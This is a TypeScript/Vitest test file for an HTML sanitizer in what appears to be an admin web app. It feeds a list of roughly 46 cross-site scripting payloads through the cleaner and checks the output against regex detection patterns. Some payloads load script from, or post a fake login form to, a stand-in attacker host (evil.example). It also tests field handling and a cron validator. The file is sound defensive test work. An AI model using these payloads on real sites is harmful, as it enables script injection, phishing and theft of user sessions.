import { describe, expect, test } from 'vitest'
import { code, cron, markdown, richText, text } from '#contract/kit/field.ts'
import { resource } from '#contract/kit/resource.ts'
import { cleanHtml, cleanShown } from '#server/crud/save/clean.ts'
import { newCandidate, writable } from '#server/crud/save/write.ts'

/** What must be gone, whatever stays: scripts, handlers, frames, forms, foreign schemes, covering styles. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)//',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src=`x` onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=p><button>登录</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:99999">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;background-color:u\\72l(https://evil.example)">x</p>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<<script>alert(1)//<</script>',
  '<p id="root" name="cookie" class="arco-modal">x</p>',
]
const harm = [
  /<\/?(?:script|iframe|object|embed|form|input|button|base|meta|link|style|svg|math|video|audio|template|textarea|noscript|details|body|source|animate)\b/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*(?:href|src)\s*=\s*["']?\s*(?:\/\/|(?:java|vb)[\s\S]{0,3}script|data:(?!image\/(?:png|jpeg|gif|webp);))/i,
  /<[^>]*style="[^"]*(?:url|expression|position|z-index|inset|\\)/i,
  /<[^>]*\s(?:id|name|srcdoc|action|xlink:href)\s*=/i,
  /<p[^>]*\sclass=/i,
]

describe('rich text is cleaned on write [J25 A43]', () => {
  test.each(attacks)('%j', attack => {
    const clean = cleanHtml(`<p>前</p>${attack}<p>后</p>`)
    for (const sign of harm) expect(clean).not.toMatch(sign)
    // What was clean before it stays; and cleaning again changes nothing: no half is left to grow whole.
    expect(clean).toContain('<p>前</p>')
    expect(cleanHtml(clean)).toBe(clean)
  })

  test.each(attacks.filter(attack => !attack.includes('svg+xml')))('shown: %j', attack => {
    for (const sign of harm) expect(cleanShown(attack)).not.toMatch(sign)
  })
  test('a drawing of our own letters is shown, and is not taken from people', () => {
    const drawing = '<img alt="曲线" src="data:image/svg+xml;base64,PHN2Zy8+" />'
    expect(cleanShown(drawing)).toBe(drawing)
    expect(cleanHtml(drawing)).toBe('<img alt="曲线" />')
    expect(cleanShown('<img src="data:image/svg+xml,<svg/>">')).toBe('<img />')
  })

  test('what the editor writes stays', () => {
    const written = [
      '<h2 style="text-align: center">通知</h2>',
      '<p><strong>粗</strong><em>斜</em><u>线</u><span style="color: rgb(225, 60, 57)">红</span></p>',
      '<ul><li>一</li></ul><ol start="3"><li>三</li></ol><blockquote>引</blockquote><pre><code class="language-js">a &lt; b</code></pre>',
      '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table><hr />',
    ]
    for (const html of written)
      expect(cleanHtml(html).replace(/;?"/g, '"').replace(/:\s/g, ':')).toBe(html.replace(/:\s/g, ':'))
    expect(cleanHtml('<a href="https://a.example" target="_blank">链接</a>')).toContain(
      'rel="noopener noreferrer"',
    )
    expect(cleanHtml('<img src="data:image/png;base64,iVBORw0KGgo=" alt="图">')).toContain('data:image/png')
    expect(cleanHtml('<img src="/jeecg-boot/sys/common/static/jeditor/a_1.png" alt="图">')).toContain(
      'static/jeditor/a_1.png',
    )
  })
})

const note = resource('/test/note', {
  title: '便笺',
  perm: 'test:note',
  table: 'test_note',
  fields: {
    name: text('名称'),
    body: richText('内容'),
    plan: cron('计划'),
    memo: markdown('备忘'),
    query: code('语句', 'sql'),
  },
})

describe('field kinds of long texts', () => {
  const dirty = '<p>好</p><script>alert(1)</script>'
  test('form and import alike clean rich text; other kinds keep what was written', () => {
    const draft = { name: dirty, body: dirty, memo: dirty, query: 'select 1 < 2' }
    expect(writable(note, draft)).toEqual({ ...draft, body: '<p>好</p>' })
    expect(newCandidate(note, { body: dirty }).draft['body']).toBe('<p>好</p>')
    expect(writable(note, { body: '<script>alert(1)</script>' })).toEqual({ body: null })
  })
  test('a cron field carries the validator to the server', () => {
    const messages = (value: string) => note.fields.plan.rules?.map(rule => rule(value, {})).filter(Boolean)
    expect(messages('0 0 8 * * ? *')).toEqual([])
    expect(messages('')).toEqual([])
    expect(messages('* * * * * ? * *')).toEqual(['Cron表达式最多7项！'])
    expect(messages('0 0 8 * * ? soon')).toEqual(['Cron表达式参数[年]错误：SOON'])
  })
})
